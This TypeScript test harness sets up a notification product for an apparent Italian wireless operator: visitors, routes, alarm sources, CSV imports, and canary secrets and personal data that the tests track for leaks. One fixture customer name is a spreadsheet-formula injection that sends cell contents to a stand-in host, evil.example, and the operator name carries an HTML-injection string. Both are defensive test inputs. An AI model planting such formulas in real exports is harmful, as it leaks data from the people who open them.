import { randomBytes } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import type { AlarmSourceMade } from '../../contract/alarms.ts';
import type { InvitationMade, StaffRole } from '../../contract/deeds.ts';
import type { ImportReport } from '../../contract/imports.ts';
import type { NewRoute, Settings } from '../../contract/settings.ts';
import {
  makePremises,
  type OtherEnd,
  type Premises,
  type RunningProduct,
  startOtherEnd,
  startProduct,
} from './product.ts';
import type { Engine } from './test-platform.ts';

export interface Answered {
  status: number;
  text: string;
  headers: Headers;
  json<Body>(): Body;
}

/** Somebody outside with a cookie jar, who is told every answer as it is and remembers those that said no. */
export interface Visitor {
  ask(method: string, path: string, given?: { body?: unknown; headers?: Record<string, string> }): Promise<Answered>;
  signIn(email: string, password: string): Promise<Answered>;
  cookies(): string[];
}

/** What answers of status 400 and above said, over the whole run. */
export type Refusals = string[];

export function createVisitor(baseUrl: string, refusals: Refusals): Visitor {
  const jar = new Map<string, string>();
  const visitor: Visitor = {
    ask: async (method, path, { body, headers = {} } = {}) => {
      const raw = typeof body === 'string' || body instanceof Uint8Array || body instanceof FormData;
      const response = await fetch(`${baseUrl}${path}`, {
        method,
        redirect: 'manual',
        headers: {
          origin: baseUrl,
          ...(body === undefined || raw ? {} : { 'content-type': 'application/json' }),
          ...(jar.size > 0 ? { cookie: [...jar].map(([name, value]) => `${name}=${value}`).join('; ') } : {}),
          ...headers,
        },
        ...(body === undefined
          ? {}
          : { body: raw ? (body as string | Uint8Array<ArrayBuffer> | FormData) : JSON.stringify(body) }),
        signal: AbortSignal.timeout(60_000),
      });
      for (const cookie of response.headers.getSetCookie()) {
        const [pair = ''] = cookie.split(';');
        const at = pair.indexOf('=');
        jar.set(pair.slice(0, at), pair.slice(at + 1));
      }
      // The live feed never ends: its status is all that is asked.
      if (response.headers.get('content-type')?.startsWith('text/event-stream')) {
        await response.body?.cancel();
        return { status: response.status, text: '', headers: response.headers, json: () => JSON.parse('{}') };
      }
      const text = await response.text();
      if (response.status >= 400) refusals.push(text);
      return { status: response.status, text, headers: response.headers, json: () => JSON.parse(text) };
    },
    signIn: (email, password) => visitor.ask('POST', '/api/auth/sign-in/email', { body: { email, password } }),
    cookies: () => [...jar.values()].filter((value) => value.length > 8),
  };
  return visitor;
}

/** A product in operation, with everything in it that must not come out. */
export interface Stage {
  premises: Premises;
  product: RunningProduct;
  otherEnd: OtherEnd;
  administrator: Visitor;
  refusals: Refusals;
  /** Each word must appear nowhere but where it belongs. Added to as the run goes. */
  secrets: string[];
  /** Words about people: nowhere in logs, figures, errors and events. */
  personal: string[];
  tokens: { alertmanager: string; alarms: string };
  visitor(): Visitor;
  /** Makes somebody with these roles and signs them in. */
  join(name: string, roles: StaffRole[]): Promise<Visitor>;
  clear(): Promise<void>;
}

export const STAFF_PASSWORD = 'canarino in miniera 1889';
const ROUTE_PASSWORD = 'pc-canary1';

/** People of two places: six lines in Verbania, three in Stresa, all behind one mast. */
export const PEOPLE = Array.from({ length: 9 }, (_, index) => ({
  id: `C-${index + 1}`,
  name: index === 0 ? '=HYPERLINK("http://evil.example/"&A1;"Zebedeo")' : `Zebedea Canarina${index}`,
  phone: `+3934755510${String(index).padStart(2, '0')}`,
  email: `zebedea${index}@canary.example.com`,
  street: `Vicolo del Canarino ${index + 1}`,
  sector: index < 6 ? 'verbania-1' : 'stresa-1',
}));

const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
const FILES = {
  resources: [
    'id,kind,name,upstream,lat,lon,battery_minutes',
    'mast-rosso,mast,Traliccio Monte Rosso,,45.9406,8.5386,95',
    'verbania-1,sector,Settore Verbania,mast-rosso,45.9214,8.5516,',
    'stresa-1,sector,Settore Stresa,mast-rosso,45.8833,8.5333,',
  ],
  customers: [
    'id,name,kind,tax_code,language,phone,email,pec,notify,consent_at,consent_source,consent_text',
    ...PEOPLE.map((person) =>
      [
        person.id,
        quoted(person.name),
        'consumer,,it',
        person.phone,
        person.email,
        '',
        'sms|email,2026-03-02T10:15:00Z,contratto,Avvisi di guasto',
      ].join(','),
    ),
  ],
  services: [
    'id,customer_id,product,address,resource_id,state,activated_on,ultrabroadband,monthly_fee',
    ...PEOPLE.map(
      (person, index) =>
        `L-${index + 1},${person.id},Radio 100,${quoted(person.street)},${person.sector},active,2025-03-05,true,24.90`,
    ),
  ],
} as const;

/** Starts everything: administrator, routes to the other end, both kinds of source, the files, telling on, no waiting. */
export async function setStage(engine: Engine, program?: readonly string[]): Promise<Stage> {
  const [premises, otherEnd] = await Promise.all([makePremises(engine), startOtherEnd()]);
  premises.environment.LOG_LEVEL = 'trace';
  if (program) premises.program = program;
  const product = await startProduct(premises);
  const { baseUrl } = product;
  const refusals: Refusals = [];
  const administrator = createVisitor(baseUrl, refusals);
  const done = async <Body>(method: string, path: string, body: unknown): Promise<Body> => {
    const answer = await administrator.ask(method, path, { body });
    if (answer.status >= 300)
      throw new Error(`${method} ${path}: ${answer.status} ${answer.text}\n${product.log().slice(-3000)}`);
    return answer.json<Body>();
  };
  const email = 'elena.canarina@example.com';
  const token = product.firstAdministratorLink?.split('/').at(-1) ?? '';
  const secrets = [STAFF_PASSWORD, ROUTE_PASSWORD];
  await done('POST', '/api/v1/invitations/accept', { token, email, name: 'Elena Canarina', password: STAFF_PASSWORD });
  await administrator.signIn(email, STAFF_PASSWORD);
  secrets.push(...administrator.cookies());

  const settings = await administrator.ask('GET', '/api/v1/settings').then((answer) => answer.json<Settings>());
  const none = { critical: 0, major: 0, minor: 0, info: 0 };
  await done('PATCH', '/api/v1/settings', {
    operator: { ...settings.operator, name: '<b>Lago</b> & "Wireless"', shortName: 'LagoWifi' },
    telling: { ...settings.telling, on: true, undoSeconds: 0 },
    quietHours: { ...settings.quietHours, channels: [] },
    incidents: { ...settings.incidents, confirmAfterMinutes: none, restoredAfterMinutes: none },
  });
  const routes: NewRoute[] = [
    {
      name: 'SMSC',
      kind: 'smpp',
      enabled: true,
      costMillicents: 0,
      config: {
        host: '127.0.0.1',
        port: otherEnd.smppPort,
        tls: false,
        systemId: 'lago',
        systemType: '',
        sender: 'LagoWifi',
        window: 10,
        perSecond: 100,
      },
      password: ROUTE_PASSWORD,
    },
    {
      name: 'Posta',
      kind: 'smtp',
      enabled: true,
      costMillicents: 0,
      config: {
        host: '127.0.0.1',
        port: otherEnd.smtpPort,
        tls: 'none',
        user: '',
        from: 'avvisi@example.com',
        connections: 2,
        perSecond: 100,
      },
      password: ROUTE_PASSWORD,
    },
  ];
  for (const route of routes) await done('POST', '/api/v1/routes', route);
  const source = (kind: 'alertmanager' | 'alarms'): Promise<AlarmSourceMade> =>
    done('POST', '/api/v1/alarm-sources', { name: kind, kind });
  const tokens = { alertmanager: (await source('alertmanager')).token, alarms: (await source('alarms')).token };
  secrets.push(...Object.values(tokens));

  for (const [kind, lines] of Object.entries(FILES)) {
    const form = new FormData();
    form.set('kind', kind);
    form.set('file', new Blob([`${lines.join('\n')}\n`]), `${kind}.csv`);
    let report = (await administrator.ask('POST', '/api/v1/imports', { body: form })).json<ImportReport>();
    for (let tries = 0; report.state !== 'done' && tries < 300; tries++) {
      if (['refused', 'failed'].includes(report.state)) throw new Error(JSON.stringify(report));
      await sleep(100);
      report = (await administrator.ask('GET', `/api/v1/imports/${report.id}`)).json<ImportReport>();
    }
  }

  const join = async (name: string, roles: StaffRole[]): Promise<Visitor> => {
    const address = `${name}.canarina@example.com`;
    const invited = await done<InvitationMade>('POST', '/api/v1/staff/invitations', { email: address, name, roles });
    const invitation = invited.link.split('/').at(-1) ?? '';
    const visitor = createVisitor(baseUrl, refusals);
    await visitor.ask('POST', '/api/v1/invitations/accept', { body: { token: invitation, password: STAFF_PASSWORD } });
    const signedIn = await visitor.signIn(address, STAFF_PASSWORD);
    if (signedIn.status !== 200) throw new Error(`${name} could not sign in: ${signedIn.text}`);
    secrets.push(invitation, ...visitor.cookies());
    return visitor;
  };

  return {
    premises,
    product,
    otherEnd,
    administrator,
    refusals,
    secrets,
    personal: PEOPLE.flatMap(({ phone, email: mail, street }) => [phone, phone.slice(3), mail, street]).concat(
      'Zebedea Canarina',
      'Zebedeo',
      email,
    ),
    tokens,
    visitor: () => createVisitor(baseUrl, refusals),
    join,
    clear: async () => {
      await product.stop();
      await otherEnd.stop();
      await premises.remove();
    },
  };
}

/** A number of no meaning, so that nothing else can be mistaken for it. */
export const nonce = (): string => randomBytes(8).toString('hex');
